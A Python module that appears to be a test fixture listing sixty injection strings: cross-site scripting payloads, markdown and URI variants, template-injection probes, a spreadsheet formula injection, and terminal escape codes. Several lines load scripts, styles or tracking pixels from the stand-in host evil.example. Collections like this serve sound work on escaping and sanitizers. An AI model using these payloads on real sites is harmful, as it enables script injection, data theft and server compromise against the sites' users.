"""Sixty texts that somebody might write to have a page of somebody else do something."""

STRIKE = "window.struck=1"
"""What each tries to do, in whatever way."""

TEXTS = tuple(
    text.replace("STRIKE", STRIKE)
    for text in """
<script>STRIKE</script>
<ScRiPt>STRIKE</sCrIpT>
<script src=//evil.example/x.js></script>
</script><script>STRIKE</script>
</title><script>STRIKE</script>
</textarea><script>STRIKE</script>
</style><script>STRIKE</script>
--><script>STRIKE</script>
]]><script>STRIKE</script>
"><script>STRIKE</script>
'><script>STRIKE</script>
<img src=x onerror=STRIKE>
<img src=x onerror="STRIKE">
"><img src=x onerror=STRIKE>
'><img src=x onerror=STRIKE>
<img src=//evil.example/pixel>
<svg onload=STRIKE>
<svg><script>STRIKE</script></svg>
<svg><animate onbegin=STRIKE attributeName=x>
<math><mi xlink:href="javascript:STRIKE">x</mi></math>
<body onload=STRIKE>
<iframe src="javascript:STRIKE"></iframe>
<iframe srcdoc="<script>parent.STRIKE</script>">
<object data="javascript:STRIKE">
<embed src="javascript:STRIKE">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><button>go</button></form>
<input autofocus onfocus=STRIKE>
<details open ontoggle=STRIKE>
<video><source onerror=STRIKE>
<audio src=x onerror=STRIKE>
<marquee onstart=STRIKE>
<a href="javascript:STRIKE">x</a>
<a href=javascript&colon;STRIKE>x</a>
<a href="data:text/html,<script>STRIKE</script>">x</a>
<div style="background:url(//evil.example/x)">x</div>
<template><script>STRIKE</script></template>
" onmouseover="STRIKE
' autofocus onfocus='STRIKE
" autofocus onfocus=STRIKE x="
javascript:STRIKE
[x](javascript:STRIKE)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](//evil.example/pixel)
![x](x"onerror="STRIKE)
<javascript:STRIKE>
[x]: javascript:STRIKE
{{ 7*7 }}{{ config }}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
${STRIKE}
`${STRIKE}`
';STRIKE;//
\\";STRIKE;//
%3Cscript%3ESTRIKE%3C/script%3E
&lt;script&gt;STRIKE&lt;/script&gt;
&#60;img src=x onerror=STRIKE&#62;
=HYPERLINK("//evil.example","x")
""".strip().splitlines()
)
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m plain"
"""Orders to a terminal, around a word that is to be left."""
